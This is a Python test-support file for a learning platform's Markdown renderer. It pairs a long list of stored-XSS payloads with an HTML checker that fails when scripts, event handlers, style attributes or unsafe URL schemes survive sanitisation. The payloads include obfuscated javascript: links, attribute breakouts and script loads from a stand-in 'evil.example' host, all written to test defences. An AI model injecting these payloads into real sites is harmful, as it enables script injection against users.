"""Stored-XSS payloads a trainer could write in a course file, and a checker for the HTML
Melek makes of them. Imported by tests/unit/test_xss.py and tests/web/test_xss_pages.py.

Every payload is valid course Markdown in a module body (no '#' heading, fences closed,
no line that reads as a quiz option); images point at "img/aman.svg", a harmless SVG the
web test puts into its course, or at something the course checker refuses anyway.
"""

import re
from html import unescape
from html.parser import HTMLParser

from lms.content import render

SAFE_IMAGE = "img/aman.svg"

PAYLOADS = [
    # raw HTML: must come out as text
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"//evil.example/x.swf\">",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url(javascript:alert(1))\">gaya</p>",
    "<a href=\"javascript:alert(1)\">klik</a>",
    "<a href=\"https://example.org\" onclick=\"alert(1)\">ok</a>",
    "<form action=\"javascript:alert(1)\"><button>kirim</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=\"stylesheet\" href=\"//evil.example/x.css\">",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    # comments, CDATA, unclosed tags
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div <script>alert(1)</script>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<b onmouseover=alert(1)>tebal",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    # inline links
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](&#106;avascript:alert(1))",
    "[klik](&#x6A;&#x61;&#x76;&#x61;script:alert(1))",
    "[klik](javas&#99;ript:alert(1))",
    "[klik](java&#9;script:alert(1))",
    "[klik](<java\tscript:alert(1)>)",
    "[klik](<java\nscript:alert(1)>)",
    "[klik](  javascript:alert(1)  )",
    "[klik](javascript&colon;alert(1))",
    "[klik](javascript://%0aalert(1))",
    "[klik](%6Aavascript:alert(1))",
    "[klik](\x01javascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[data](DATA:text/html,<script>alert(1)</script>)",
    "[vb](vbscript:msgbox(1))",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    # reference links and autolinks
    "[klik][jahat]\n\n[jahat]: javascript:alert(1)",
    "[klik][jahat2]\n\n[jahat2]: JAVASCRIPT:alert(1) \"judul\"",
    "[klik][jahat3]\n\n[jahat3]: <java script:alert(1)>",
    "<javascript:alert(1)>",
    "<JavaScript:alert(document.cookie)>",
    "<vbscript:msgbox(1)>",
    "<https://example.org/\"onmouseover=\"alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    # titles and alts that try to break out of the attribute
    "[judul](https://example.org \"a\\\" onmouseover=\\\"alert(1)\")",
    "[judul](https://example.org 'x\" onclick=\"alert(1)')",
    "[judul](https://example.org (\"><script>alert(1)</script>))",
    f"![x\" onerror=\"alert(1)]({SAFE_IMAGE})",
    f"![\"><script>alert(1)</script>]({SAFE_IMAGE} \"t\\\" onload=\\\"alert(1)\")",
    f"[![gambar]({SAFE_IMAGE})](javascript:alert(1))",
    # images
    "![gambar](javascript:alert(1))",
    "![gambar](x\"onerror=\"alert(1))",
    "![gambar](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![gambar][gbr]\n\n[gbr]: javascript:alert(1)",
    "![gambar][gbr2]\n\n[gbr2]: https://evil.example/x.png",
    # callouts, tables, lists, emphasis with HTML inside
    "> [!NOTE]\n> <script>alert(1)</script>",
    "> [!WARNING]\n> [klik](javascript:alert(1)) <img src=x onerror=alert(1)>",
    "> [!TIP]\n> <div class=\"callout callout-tip\" onclick=\"alert(1)\">palsu</div>",
    "> [!CAUTION] <b onmouseover=alert(1)>x</b>",
    "> biasa\n> > <iframe src=javascript:alert(1)>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "| a |\n|:-:|\n| <td style=\"x\" onclick=\"alert(1)\"> |",
    "| <img src=x onerror=alert(1)> |\n|---|\n| `<b>kode</b>` |",
    "- satu\n  - <img src=x onerror=alert(1)>\n    - [x](javascript:alert(1))",
    "1. <script>alert(1)</script>\n2. [y](vbscript:alert(1))",
    "**<script>**alert(1)**</script>**",
    "~~<script>~~ *<style>*",
    "## <img src=x onerror=alert(1)>",
    # code: the HTML must stay, escaped
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <iframe src=javascript:alert(1)></iframe>",
    "```\"><script>alert(1)</script>\n<b>x</b>\n```",
    "~~~\n<img src=x onerror=alert(1)>\n~~~",
]

# Payloads whose code must survive as escaped text, with the text to look for.
CODE_PAYLOADS = {
    "`<script>alert(1)</script>`": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "```html\n<script>alert(1)</script>\n```": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "    <iframe src=javascript:alert(1)></iframe>":
        "&lt;iframe src=javascript:alert(1)&gt;&lt;/iframe&gt;",
    "~~~\n<img src=x onerror=alert(1)>\n~~~": "&lt;img src=x onerror=alert(1)&gt;",
}

SAFE_SCHEMES = {"http", "https", "mailto"}
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "poster", "background",
             "data", "srcset", "cite", "longdesc"}
NEVER_TAGS = {"script", "style", "iframe", "frame", "frameset", "object", "embed", "svg",
              "math", "link", "meta", "base", "template", "applet", "foreignobject",
              "noscript"}
_CONTROL = re.compile(r"[\x00-\x20\x7f-\x9f]+")
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see in an attribute value (already unescaped by the
    parser), after dropping whitespace and control characters; None when relative."""
    m = _SCHEME.match(_CONTROL.sub("", unescape(value)))
    return m.group(1).lower() if m else None


class _Checker(HTMLParser):
    def __init__(self, chrome: dict[str, set[str]] | None):
        super().__init__(convert_charrefs=True)
        self.chrome = chrome
        self.problems: list[str] = []

    def _tag_allowed(self, tag: str) -> bool:
        if tag in NEVER_TAGS:
            return False
        return tag in render.ALLOWED_TAGS or (self.chrome is not None and tag in self.chrome)

    def _attr_allowed(self, tag: str, name: str, value: str) -> bool:
        if name in render.ALLOWED_ATTRS.get(tag, set()):
            return True
        if name == "class" and set(value.split()) <= render.ALLOWED_CLASSES.get(tag, set()):
            return True
        if tag == "a" and name == "rel" and value == "noopener noreferrer":
            return True  # nh3's link_rel
        return self.chrome is not None and name in self.chrome.get(tag, set())

    def handle_starttag(self, tag, attrs):
        raw = _CONTROL.sub("", unescape(self.get_starttag_text() or "")).lower()
        if not self._tag_allowed(tag):
            self.problems.append(f"tag <{tag}> is not allowed")
        for bad in ("javascript:", "vbscript:", "data:text/html"):
            if bad in raw:
                self.problems.append(f"{bad} inside the tag {self.get_starttag_text()!r}")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"event attribute {name}= on <{tag}>")
            elif name == "style":
                self.problems.append(f"style= on <{tag}>")
            elif not self._attr_allowed(tag, name, value):
                self.problems.append(f"attribute {name}={value!r} not allowed on <{tag}>")
            if name in URL_ATTRS:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{name}={value!r} on <{tag}> has scheme {scheme}:")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        if not self._tag_allowed(tag):
            self.problems.append(f"end tag </{tag}> is not allowed")

    def handle_comment(self, data):
        self.problems.append(f"comment <!--{data}--> in the output")

    def handle_decl(self, decl):
        self.problems.append(f"declaration <!{decl}> in the output")

    def unknown_decl(self, data):
        self.problems.append(f"declaration <![{data}]> in the output")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction <?{data}> in the output")


def assert_safe_html(html: str, chrome: dict[str, set[str]] | None = None) -> None:
    """Fail unless `html` could only come out of render.sanitise: allowed tags and
    attributes (render.ALLOWED_ATTRS, classes from render.ALLOWED_CLASSES, nh3's rel on
    links), no on* attribute, no style, href/src with a relative, http(s) or mailto URL,
    no comment or declaration, and no "<script" or "javascript:" anywhere but in text.

    `chrome` lets a page's own template markup through (tag -> extra attributes), for
    checking a whole <main>; the never-allowed tags, on*, style= and URL rules still
    hold there."""
    checker = _Checker(chrome)
    checker.feed(html)
    checker.close()
    if "<script" in html.lower():
        checker.problems.append("a raw <script survived")
    assert not checker.problems, "unsafe HTML:\n  " + "\n  ".join(checker.problems) + \
        f"\n--- in ---\n{html}"


class _Fragments(HTMLParser):
    """The inner HTML of every element a predicate picks (source offsets, so the HTML
    is exactly what the server sent)."""

    def __init__(self, html: str, pick):
        super().__init__(convert_charrefs=True)
        self.html, self.pick = html, pick
        self.lines = [0]
        for line in html.splitlines(keepends=True):
            self.lines.append(self.lines[-1] + len(line))
        self.open: list[tuple[str, int, int]] = []  # (tag, depth, inner start)
        self.depth: dict[str, int] = {}
        self.found: list[str] = []

    def _offset(self) -> int:
        line, col = self.getpos()
        return self.lines[line - 1] + col

    def handle_starttag(self, tag, attrs):
        if tag in ("img", "br", "hr", "input", "meta", "link"):
            return
        self.depth[tag] = self.depth.get(tag, 0) + 1
        if self.pick(tag, dict(attrs)):
            start = self._offset() + len(self.get_starttag_text())
            self.open.append((tag, self.depth[tag], start))

    def handle_endtag(self, tag):
        if self.open and self.open[-1][0] == tag and self.open[-1][1] == self.depth.get(tag):
            _, _, start = self.open.pop()
            self.found.append(self.html[start:self._offset()])
        self.depth[tag] = self.depth.get(tag, 0) - 1


def fragments(html: str, pick) -> list[str]:
    """Inner HTML of the elements for which pick(tag, attrs) is true."""
    parser = _Fragments(html, pick)
    parser.feed(html)
    parser.close()
    return parser.found


def has_class(name: str):
    return lambda tag, attrs: name in (attrs.get("class") or "").split()
